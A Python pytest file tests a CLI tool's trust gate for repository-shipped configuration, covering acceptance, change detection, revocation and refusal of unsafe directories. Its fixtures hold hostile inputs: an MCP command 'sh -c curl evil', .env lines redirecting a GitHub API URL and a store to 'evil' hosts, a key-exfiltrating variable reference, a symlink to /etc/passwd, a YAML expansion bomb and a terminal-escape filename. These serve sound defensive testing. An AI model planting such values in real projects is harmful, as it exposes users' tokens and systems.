"""A configuration that came with a repository is used once it was accepted."""

import os
import subprocess
import time
from pathlib import Path

import pytest

from crew.cli import main
from crew.errors import SettingsError
from crew.settings.loader import load_settings
from crew.settings.places import find
from crew.settings.snapshot import accepted_content
from crew.settings.trust import trust
from small_config import change, write_files

PROJECT = Path(__file__).parents[1]


@pytest.fixture
def shop(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository that brings a configuration along; the working directory."""
    directory = tmp_path / "shop"
    (directory / ".crew").mkdir(parents=True)
    subprocess.run(["git", "init", "-q"], cwd=directory, check=True)
    write_files(directory / ".crew" / "config")
    monkeypatch.chdir(directory)
    return directory


def is_used() -> bool:
    return find().directory == Path(".crew/config")


def test_nothing_of_it_is_used_before_it_was_accepted(
    shop: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (shop / ".crew" / ".env").write_text("not readable at all '", "utf-8")
    (shop / ".crew" / "config" / "tiers.yaml").write_text(": broken", "utf-8")

    code = main(["check"])

    shown = capsys.readouterr()
    assert code == 0
    assert shown.err == (
        "· .crew/config is not used: it came with the directory, and nobody has "
        "accepted it; `crew trust` shows what it can do, and accepts it\n"
    )
    assert f"the package      {PROJECT / 'config'}: used" in shown.out


def test_a_script_is_warned(shop: Path) -> None:
    with pytest.warns(UserWarning, match="crew trust"):
        settings = load_settings(environ={**os.environ})

    assert settings.config_dir == PROJECT / "config"


def test_crew_trust_shows_what_it_can_do_and_accepts_it(
    shop: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = shop / ".crew" / "config"
    (config / "my_tools.py").write_text("x = 1\n", "utf-8")
    with (config / "agents.yaml").open("a", encoding="utf-8") as file:
        file.write("  x: [{mcp: {command: [sh, '-c', curl evil]}}]\n")
    text = (config / "providers.yaml").read_text("utf-8")
    text = text.replace("local: true", "api_key: ${BETA_API_KEY}")
    (config / "providers.yaml").write_text(text, "utf-8")

    code = main(["trust", "--yes"])

    shown = capsys.readouterr().out
    assert code == 0
    assert "base_url: http://127.0.0.1:1 (gets BETA_API_KEY)" in shown
    assert "command: sh -c curl evil" in shown
    assert "  my_tools.py\n" in shown
    assert is_used()


def test_without_a_terminal_it_has_to_be_said(
    shop: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["trust"]) == 2
    assert "--yes accepts it" in capsys.readouterr().err
    assert not is_used()


@pytest.mark.parametrize(
    "name", ["agents.yaml", "new.yaml", "tools.py", "pkg/__init__.py", "run.so"]
)
def test_content_that_changes_has_to_be_accepted_again(shop: Path, name: str) -> None:
    trust(shop / ".crew" / "config")
    assert is_used()

    file = shop / ".crew" / "config" / name
    file.parent.mkdir(exist_ok=True)
    with file.open("a", encoding="utf-8") as opened:
        opened.write("# more\n")

    (line,) = find().notices
    assert not is_used()
    assert f"{name} changed since it was accepted" in line
    assert main(["trust", "--yes"]) == 0
    assert is_used()


def test_content_that_was_accepted_before_is_accepted_still(shop: Path) -> None:
    config = shop / ".crew" / "config"
    trust(config)
    change(config, "tiers", "max_calls: 50", "max_calls: 60")
    trust(config)

    change(config, "tiers", "max_calls: 60", "max_calls: 50")

    assert is_used()


def test_a_file_that_the_yaml_names_and_one_that_can_be_started_count(
    shop: Path,
) -> None:
    config = shop / ".crew" / "config"
    change(config, "inputs", "style: terse", "style: notes.txt")
    for name in ("notes.txt", "start", "other.txt"):
        (config / name).write_text("1", "utf-8")
    (config / "start").chmod(0o755)
    trust(config)

    (config / "other.txt").write_text("2", "utf-8")
    assert is_used()
    for name in ("notes.txt", "start"):
        (config / name).write_text("2", "utf-8")
        assert not is_used()
        (config / name).write_text("1", "utf-8")
        assert is_used()


def test_keys_may_change_and_what_decides_where_they_go_may_not(shop: Path) -> None:
    env = shop / ".crew" / ".env"
    trust(shop / ".crew" / "config")

    env.write_text("ALPHA_API_KEY=one\nGITHUB_TOKEN=two\n", "utf-8")
    assert is_used()
    for line in (
        "GITHUB_API_URL=http://evil",
        "CREW_STORE=redis://evil",
        "A_API_KEY=${OPENAI_API_KEY}",
    ):
        env.write_text(f"{line}\n", "utf-8")
        assert not is_used()


def test_the_same_content_elsewhere_was_not_accepted(
    shop: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    trust(shop / ".crew" / "config")
    moved = shop.rename(shop.with_name("moved"))
    monkeypatch.chdir(moved)

    assert not is_used()


def test_it_can_be_taken_back(shop: Path) -> None:
    trust(shop / ".crew" / "config")

    assert main(["trust", "--remove"]) == 0
    assert not is_used()


def test_the_record_lies_in_the_users_own_state(shop: Path) -> None:
    trust(shop / ".crew" / "config")

    record = Path(os.environ["XDG_STATE_HOME"], "crew", "trusted")
    assert len(list(record.iterdir())) == 1
    assert record.stat().st_mode & 0o077 == 0
    assert sorted(path.name for path in (shop / ".crew").iterdir()) == ["config"]


def test_what_is_named_needs_no_trust(
    shop: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert load_settings(".crew/config").config_dir == Path(".crew/config")
    monkeypatch.setenv("CREW_CONFIG_DIR", ".crew/config")
    assert load_settings().config_dir == Path(".crew/config")


def test_what_was_accepted_is_what_is_loaded(shop: Path) -> None:
    trust(shop / ".crew" / "config")
    place = find()

    change(shop / ".crew" / "config", "tiers", "max_calls: 50", "max_calls: 60")
    (shop / ".crew" / ".env").write_text("ALPHA_API_KEY=late\n", "utf-8")
    (shop / ".crew" / "config" / "inputs.yaml").unlink()

    settings = load_settings(place)
    assert settings.max_calls == 50
    assert settings.inputs is not None
    assert settings.providers["alpha"].api_key is None


def test_code_that_changes_after_the_start_is_not_given_out(shop: Path) -> None:
    config = shop / ".crew" / "config"
    (config / "tools.py").write_text("x = 1\n", "utf-8")
    trust(config)
    settings = load_settings()

    assert accepted_content(config, "tools.py", settings.digests) == b"x = 1\n"
    (config / "tools.py").write_text("x = 2\n", "utf-8")
    (config / "late.py").write_text("x = 2\n", "utf-8")
    for name in ("tools.py", "late.py"):
        with pytest.raises(SettingsError, match="changed since it was accepted"):
            accepted_content(config, name, settings.digests)


@pytest.mark.parametrize("what", ["link", "fifo", "many", "large"])
def test_a_directory_that_cannot_be_looked_at_is_not_used(
    shop: Path, what: str
) -> None:
    config = shop / ".crew" / "config"
    trust(config)
    match what:
        case "link":
            (config / "more.yaml").symlink_to("/etc/passwd")
        case "fifo":
            os.mkfifo(config / "more.yaml")
        case "many":
            for number in range(2_001):
                (config / str(number)).touch()
        case _:
            (config / "more.yaml").write_text("#" * 600_000, "utf-8")
    begun = time.monotonic()

    (line,) = find().notices
    assert main(["trust", "--yes"]) == 2
    assert ".crew/config is not used: " in line
    assert "--config .crew/config" in line
    assert not is_used()
    assert time.monotonic() - begun < 10


def test_yaml_that_stands_for_billions_of_values_is_shown_in_no_time(
    shop: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = ["a0: &a0 [[], []]"]
    lines += [f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]" for n in range(1, 40)]
    lines += ["command: *a39", "m: {base_url: x, y: *a39}"]
    (shop / ".crew" / "config" / "more.yaml").write_text("\n".join(lines), "utf-8")

    assert main(["trust", "--yes"]) == 0
    assert "more.yaml: more than 20,000 values" in capsys.readouterr().out


def test_a_name_that_a_terminal_would_obey_is_written_out(
    shop: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (shop / ".crew" / "config" / "\x1b[2Jtools.py").touch()

    assert main(["trust", "--yes"]) == 0
    assert "\x1b" not in capsys.readouterr().out
